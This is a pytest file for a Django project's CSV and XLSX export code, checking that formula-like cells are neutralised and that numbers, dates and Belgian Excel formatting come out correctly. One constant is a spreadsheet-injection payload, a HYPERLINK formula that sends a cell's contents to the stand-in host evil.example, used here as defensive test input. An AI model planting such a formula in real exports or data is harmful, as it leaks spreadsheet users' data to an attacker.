"""Every CSV and XLSX goes through one writer: no cell a spreadsheet would run as a formula, numbers as
numbers, and a CSV that a Belgian Excel opens as it is (byte-order mark, semicolons)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from genk_village import exports
from tests.supporters.factories import SupporterFactory

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'


def _workbook(content: bytes):
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("text", [FORMULA, "+32 470", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_starts_like_a_formula_is_made_plain_text(text):
    assert exports.neutralise(text) == f"'{text}"
    assert exports.neutralise("Fiets = vervoer") == "Fiets = vervoer"
    assert exports.neutralise(-3) == -3 and exports.neutralise(2.5) == 2.5


def test_the_csv_has_a_byte_order_mark_semicolons_and_plain_numbers():
    text = exports.csv_text(
        [["name", "count", "share", "day"], ["Élise", 1234, 0.25, datetime.date(2026, 5, 4)]]
    )
    assert text.startswith("\ufeffname;count;share;day\r\n")
    assert text.endswith("Élise;1234;0,25;2026-05-04\r\n")


def test_the_xlsx_writes_numbers_and_dates_as_numbers_and_dates():
    sheet = _workbook(
        exports.xlsx_bytes([["a", "b", "c"], [7, 2.5, datetime.date(2026, 5, 4)]], sheet_title="x")
    )
    assert [cell.data_type for cell in sheet[2]] == ["n", "n", "d"]


@pytest.mark.django_db
def test_a_supporter_named_like_a_formula_is_exported_by_the_back_office_as_text(client, coordinator, city):
    supporter = SupporterFactory(city=city, display_name=FORMULA)
    client.force_login(coordinator)
    url = reverse("admin:supporters_supporter_changelist")

    def export(action):
        return client.post(url, {"action": action, "_selected_action": [supporter.pk]})

    sheet = _workbook(export("export_xlsx").content)
    name = sheet["A2"]
    assert name.data_type != "f" and name.value == f"'{FORMULA}"

    content = export("export_csv").content.decode("utf-8")
    assert content.startswith("\ufeff")
    header, row = list(csv.reader(io.StringIO(content.removeprefix("\ufeff")), delimiter=";"))
    assert len(header) == len(row) == 7
    assert row[0] == f"'{FORMULA}"
